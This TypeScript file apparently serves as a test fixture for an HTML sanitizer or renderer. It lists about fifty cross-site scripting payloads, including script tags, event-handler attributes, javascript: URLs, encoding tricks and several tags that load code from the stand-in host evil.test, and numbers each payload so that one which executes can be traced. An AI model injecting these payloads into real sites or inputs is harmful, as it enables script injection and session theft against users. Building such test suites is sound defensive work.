/** What a hostile text may look like; `N` is replaced, so that each that came alive could be told. */
const templates = [
  '<script>alert(N)</script>',
  '<ScRiPt>alert(N)</sCrIpT>',
  '<script src=//evil.test/N.js></script>',
  '<img src=x onerror=alert(N)>',
  '<img src="https://evil.test/N.png">',
  '"><img src=x onerror=alert(N)>',
  "'><svg onload=alert(N)>",
  '<svg/onload=alert(N)>',
  '<svg><script>alert(N)</script></svg>',
  '<iframe src=javascript:alert(N)>',
  '<iframe srcdoc="<script>parent.alert(N)</script>">',
  '<a href="javascript:alert(N)">x</a>',
  '<form action=javascript:alert(N)><button>x',
  '<body onload=alert(N)>',
  '<details open ontoggle=alert(N)>',
  '<video><source onerror=alert(N)>',
  '<object data=javascript:alert(N)>',
  '<embed src=javascript:alert(N)>',
  '<link rel=stylesheet href=//evil.test/N.css>',
  '<style>@import "//evil.test/N.css"</style>',
  '<meta http-equiv=refresh content="0;url=//evil.test/N">',
  '<base href=//evil.test/N/>',
  '<math><mi xlink:href="javascript:alert(N)">',
  '<template><script>alert(N)</script></template>',
  '<input autofocus onfocus=alert(N)>',
  'javascript:alert(N)',
  '{{constructor.constructor("alert(N)")()}}',
  ['$', '{alert(N)}'].join(''),
  '#{alert(N)}',
  '<%= alert(N) %>',
  '`;alert(N);//',
  "'-alert(N)-'",
  '"-alert(N)-"',
  '</textarea><script>alert(N)</script>',
  '</title><script>alert(N)</script>',
  '--><script>alert(N)</script>',
  ']]><script>alert(N)</script>',
  '&lt;script&gt;alert(N)&lt;/script&gt;',
  '%3Cscript%3Ealert(N)%3C/script%3E',
  '\\u003cscript\\u003ealert(N)\\u003c/script\\u003e',
  '＜script＞alert(N)＜/script＞',
  '<scr\u0000ipt>alert(N)</scr\u0000ipt>',
  '<img src=x onerror=\nalert(N)>',
  '<IMG """><SCRIPT>alert(N)</SCRIPT>">',
  '<x onclick=alert(N) style="position:fixed;inset:0">x</x>',
  'data:text/html,<script>alert(N)</script>',
  'vbscript:msgbox(N)',
  '<div style="background:url(//evil.test/N)">',
  '<marquee onstart=alert(N)>',
  '<audio src=x onerror=alert(N)>',
];

/** Each template twice, as a word of its own and glued to what stands before it. */
export const payloads: readonly string[] = templates.flatMap((template, at) => [
  template.replaceAll('N', String(2 * at)),
  `工资${template.replaceAll('N', String(2 * at + 1))}`,
]);

/** The payloads joined into texts of at most `limit` characters; one that alone is longer is cut. */
export const textsOf = (limit: number): readonly string[] => {
  const texts: string[] = [];
  for (const payload of payloads.map((text) => text.slice(0, limit))) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + payload.length + 1 <= limit) texts[texts.length - 1] = `${last} ${payload}`;
    else texts.push(payload);
  }
  return texts;
};
